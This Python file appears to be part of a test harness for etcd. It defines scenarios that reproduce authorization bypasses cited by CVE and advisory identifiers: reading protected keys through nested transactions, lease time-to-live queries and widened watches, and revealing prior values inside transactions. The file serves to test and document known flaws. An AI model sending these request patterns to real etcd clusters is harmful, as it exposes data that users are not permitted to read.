"""What a user with few rights gets to see of keys that it may not, and what it is refused that needs no right.

In each of them alice may read and write the key ``a``, bob may write the key ``secret``, and no more.
"""

from __future__ import annotations

from loadgen.bugs.scenario import Scenario
from loadgen.bugs.stage import Permission, Stage, answer_of
from loadgen.client.actor import Actor
from loadgen.client.auth import READWRITE, WRITE
from loadgen.proto import etcd_pb2 as pb

_TAKE_S = 1.0


def _users(stage: Stage) -> tuple[Actor, Actor, Actor]:
    """Return root, alice and bob."""
    root = stage.enable_auth({"alice": (Permission(READWRITE, b"a"),), "bob": (Permission(WRITE, b"secret"),)})
    alice, bob = stage.actor(user="alice"), stage.actor(user="bob")
    root.put(b"secret", b"1")
    alice.put(b"a", b"1")
    alice.get(b"secret")  # which every etcd refuses
    return root, alice, bob


def _ask_for_the_keys_of_a_lease(stage: Stage) -> None:
    """#15814: who asks for a lease's keys needs no right to read them."""
    root, alice, _ = _users(stage)
    lease = answer_of(root.ask(pb.LeaseGrantRequest(TTL=600)))["ID"]
    root.put(b"secret", b"2", lease=lease)
    alice.ask(pb.LeaseTimeToLiveRequest(ID=lease, keys=True))


def _read_in_a_nested_transaction(stage: Stage) -> None:
    """CVE-2026-33343: etcd looks at the rights to what a transaction does, and not to what one in it does."""
    _, alice, _ = _users(stage)
    read = pb.RequestOp(request_range=pb.RangeRequest(key=b"secret"))
    alice.ask(pb.TxnRequest(success=[read]))
    alice.ask(pb.TxnRequest(success=[pb.RequestOp(request_txn=pb.TxnRequest(success=[read]))]))


def _watch_from_a_key_on(stage: Stage) -> None:
    """GHSA-xg4h-6gfc-h4m8: "up to the last key" has become "this key alone" by when etcd looks at the rights."""
    root, alice, _ = _users(stage)
    watch = alice.watch(b"a", b"\0", start_revision=1)
    root.put(b"secret", b"2")
    watch.take(3, within_s=_TAKE_S)


def _put_in_a_transaction(stage: Stage) -> None:
    """See in a transaction what a put replaces, and attach a key to a lease of others' keys there.

    CVE-2026-44283: etcd looks at the rights to either for a put alone, and not for one in a transaction.
    """
    root, alice, bob = _users(stage)
    lease = answer_of(root.ask(pb.LeaseGrantRequest(TTL=600)))["ID"]
    root.put(b"secret", b"2", lease=lease)
    alice.put(b"a", b"2", lease=lease)
    alice.ask(pb.TxnRequest(success=[_put(b"a", lease=lease)]))
    bob.put(b"secret", b"3", prev_kv=True)
    bob.ask(pb.TxnRequest(success=[_put(b"secret", prev_kv=True)]))


def _put(key: bytes, *, lease: int = 0, prev_kv: bool = False) -> pb.RequestOp:
    return pb.RequestOp(request_put=pb.PutRequest(key=key, value=b"4", lease=lease, prev_kv=prev_kv))


def _ask_how_a_member_is(stage: Stage) -> None:
    """#21663: a status needs the role root, which what watches etcd has not."""
    _, alice, _ = _users(stage)
    alice.ask(pb.MemberListRequest(linearizable=True))
    alice.ask(pb.StatusRequest())


SCENARIOS = (
    Scenario("15814", ("auth.denied",), _ask_for_the_keys_of_a_lease),
    Scenario("21663", ("auth.granted",), _ask_how_a_member_is),
    Scenario("CVE-2026-33343", ("auth.denied",), _read_in_a_nested_transaction),
    Scenario("CVE-2026-44283", ("auth.denied",), _put_in_a_transaction),
    Scenario("GHSA-xg4h-6gfc-h4m8", ("auth.denied",), _watch_from_a_key_on),
)
